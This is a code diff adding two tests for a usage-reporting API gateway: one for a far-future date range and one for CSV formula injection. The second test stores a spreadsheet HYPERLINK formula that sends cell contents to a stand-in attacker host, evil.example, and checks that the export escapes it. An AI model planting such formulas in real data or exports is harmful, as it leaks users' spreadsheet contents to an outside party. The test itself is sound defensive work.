@@ -164,3 +164,26 @@ async def test_usage_chart_is_self_contained_html_with_the_reports_totals(gatewa
         await gateway.client.get(f"/admin/usage?tenant=tenant-a&{PERIOD}&format=csv", headers=ADMIN)
     ).text
     assert list(csv.reader(io.StringIO(csv_text)))[-1][5] == cost_of(rows)
+
+
+async def test_a_period_ending_on_the_last_representable_day_is_a_report_not_a_500(gateway: Gateway) -> None:
+    """``to=9999-12-31`` was a 500 for any tenant: the day after it does not exist as a date."""
+    a_secret, _, _, _, rows = await seed(gateway)
+    mine = await gateway.client.get("/v1/usage?from=2026-11-01&to=9999-12-31", headers=auth(a_secret))
+    assert mine.status_code == 200
+    assert mine.json()["to"] == "9999-12-31" and mine.json()["total"]["requests"] == len(rows) + 1
+    everything = await gateway.client.get("/admin/usage?from=0001-01-01&to=9999-12-31", headers=ADMIN)
+    assert everything.status_code == 200 and everything.json()["total"]["requests"] == 6
+
+
+async def test_a_formula_in_a_ledger_row_reaches_the_csv_as_text(gateway: Gateway) -> None:
+    """A model name a tenant chose, stored before names were checked, was a live formula in the
+    admin's spreadsheet."""
+    secret, key = await gateway.new_key("tenant-a")
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    await gateway.state.store.insert_usage([row(1, key, NOV_1, formula, 1, 1, 1)])
+    for path, headers in (("/admin/usage", ADMIN), ("/v1/usage", auth(secret))):
+        resp = await gateway.client.get(f"{path}?{PERIOD}&group_by=model&format=csv", headers=headers)
+        assert resp.status_code == 200
+        cells = list(csv.reader(io.StringIO(resp.text)))
+        assert cells[1][0] == "'" + formula
